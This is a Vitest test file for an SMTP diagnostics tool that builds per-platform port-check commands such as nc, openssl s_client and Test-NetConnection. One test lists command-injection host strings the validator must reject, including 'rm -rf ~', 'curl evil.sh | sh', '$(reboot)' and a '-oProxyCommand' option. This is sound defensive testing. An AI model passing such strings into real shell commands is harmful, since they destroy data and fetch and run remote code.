import { describe, expect, it } from 'vitest';
import { manualChecks, platformFromUserAgent, safeHost } from './manual-checks';

describe('manualChecks', () => {
  it('gives each platform its one-line checks for a port', () => {
    const windows = manualChecks('smtp.example.com', 25, 'windows');
    expect(windows.map((c) => c.command)).toEqual([
      'Test-NetConnection smtp.example.com -Port 25',
      'telnet smtp.example.com 25',
    ]);
    const linux = manualChecks('smtp.example.com', 587, 'linux');
    expect(linux.map((c) => c.command)).toEqual([
      'nc -vz -w 10 smtp.example.com 587',
      'openssl s_client -starttls smtp -connect smtp.example.com:587 -servername smtp.example.com -crlf',
      'telnet smtp.example.com 587',
    ]);
    const server = manualChecks('smtp.example.com', 587, 'server');
    expect(server[0]!.command).toBe('npx smtp-doctor probe smtp.example.com --ports 25,465,587,2525');
    expect(server[1]!.command).toBe('npx smtp-doctor serve');
  });

  it('uses implicit TLS for 465 and explains "wrong version number"', () => {
    const [, openssl] = manualChecks('smtp.example.com', 465, 'macos');
    expect(openssl!.command).toBe(
      'openssl s_client -connect smtp.example.com:465 -servername smtp.example.com -crlf',
    );
    expect(openssl!.read.find((r) => r.output.includes('wrong version number'))!.meaning).toMatch(/STARTTLS/);
  });

  it('every check says how to read its output', () => {
    for (const check of manualChecks('smtp.example.com', 25)) {
      expect(check.read.length, check.id).toBeGreaterThan(0);
      expect(check.purpose.length).toBeGreaterThan(10);
    }
    const nc = manualChecks('smtp.example.com', 25, 'linux')[0]!;
    expect(nc.read.map((r) => r.meaning).join(' ')).toMatch(/ISP/);
  });

  it('brackets IPv6 for openssl only', () => {
    const [nc, openssl] = manualChecks('[2001:db8::25]', 587, 'linux');
    expect(nc!.command).toBe('nc -vz -w 10 2001:db8::25 587');
    expect(openssl!.command).toContain('-connect [2001:db8::25]:587');
  });

  it.each([
    'smtp.example.com; rm -rf ~',
    'smtp.example.com && curl evil.sh | sh',
    '$(reboot)',
    '`id`',
    'smtp.example.com\nrm -rf /',
    'a b',
    '-oProxyCommand=evil',
    "smtp.example.com'",
    '',
  ])('gives no command for the unsafe host %j', (host) => {
    expect(manualChecks(host, 25)).toEqual([]);
    expect(safeHost(host)).toBeNull();
  });

  it('gives no command for an invalid port', () => {
    expect(manualChecks('smtp.example.com', 0)).toEqual([]);
    expect(manualChecks('smtp.example.com', 70000)).toEqual([]);
  });

  it('guesses the platform from a user agent', () => {
    expect(platformFromUserAgent('Mozilla/5.0 (Windows NT 10.0; Win64; x64)')).toBe('windows');
    expect(platformFromUserAgent('Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)')).toBe('macos');
    expect(platformFromUserAgent('Mozilla/5.0 (X11; Linux x86_64)')).toBe('linux');
  });
});
